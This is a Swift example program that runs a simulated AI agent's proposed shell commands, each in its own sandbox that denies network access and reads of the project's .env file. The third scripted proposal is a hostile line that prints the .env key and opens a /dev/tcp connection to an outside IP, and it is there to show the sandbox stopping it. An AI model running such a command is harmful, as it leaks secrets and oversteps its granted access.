import SandboxPipeline

#if canImport(Glibc)
import func Glibc.exit
#elseif canImport(Musl)
import func Musl.exit
#else
import func Darwin.exit
#endif

/// An agent's loop: somebody proposes commands, each runs in a sandbox of its own, and what it wrote goes back.
///
/// The commands may change the project's folder, read the host, and have no network. The project's `.env`, which has a key
/// in it, they may not even read.
struct AgentLoop {
    let pipeline: Pipeline
    /// The project's folder, absolute.
    let folder: String

    /// What a model gets back for a command that it proposed.
    struct Observation {
        let exitCode: Int32
        let output: String
        let errors: String
    }

    func observe(_ command: [String]) throws(SandboxError) -> Observation {
        var policy = SandboxPolicy()
        policy.allowWrite = [folder]
        policy.denyRead = [folder + "/.env"]
        let specification = try policy.specification(for: command, workingFolder: folder, name: "agent")
        let run = try pipeline.exec(try pipeline.plan(specification))
        let files = try pipeline.inspect(run)
        return Observation(
            exitCode: run.exitCode,
            output: String(decoding: try files.bytes("collect/stdout"), as: UTF8.self),
            errors: String(decoding: try files.bytes("collect/stderr"), as: UTF8.self)
        )
    }

    /// Three rounds, with a list in place of a model.
    func run() throws(SandboxError) {
        let proposals = [
            "echo 'def add(a, b): return a + b' > sums.py && wc -l sums.py",
            "grep -n 'def subtract' sums.py",
            "echo \"the key is '$(cat .env)'\"; exec 3<>/dev/tcp/192.0.2.1/80",
        ]
        for (index, proposal) in proposals.enumerated() {
            print("\(index + 1). the model proposes: \(proposal)")
            let seen = try observe(["bash", "-c", proposal])
            for line in seen.output.split(separator: "\n") { print("   stdout: \(line)") }
            for line in seen.errors.split(separator: "\n") { print("   stderr: \(line)") }
            print("   \(seen.exitCode == 0 ? "it succeeded" : "it failed with exit code \(seen.exitCode)")")
        }
    }
}

@main
enum Program {
    static func main() {
        let arguments = CommandLine.arguments.dropFirst()
        guard let folder = arguments.first, arguments.count == 1, folder.hasPrefix("/") else {
            print("usage: agent-loop FOLDER, the absolute path of a project")
            exit(64)
        }
        do throws(SandboxError) {
            try AgentLoop(pipeline: try Pipeline(), folder: folder).run()
            print("what each command was, ran in and wrote is in the store: sbxpipe ls --runs")
        } catch {
            print("agent-loop: \(error.message)" + (error.hint.map { "\n  \($0)" } ?? ""))
            exit(2)
        }
    }
}
